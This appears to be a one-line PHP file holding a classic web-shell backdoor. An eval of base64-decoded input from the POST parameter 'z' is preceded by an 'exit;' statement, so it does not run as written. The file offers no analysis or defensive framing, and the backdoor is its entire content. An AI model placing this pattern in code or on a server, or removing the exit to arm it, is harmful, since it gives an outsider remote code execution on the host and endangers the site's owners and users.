<?php exit; @eval(base64_decode($_POST["z"]));
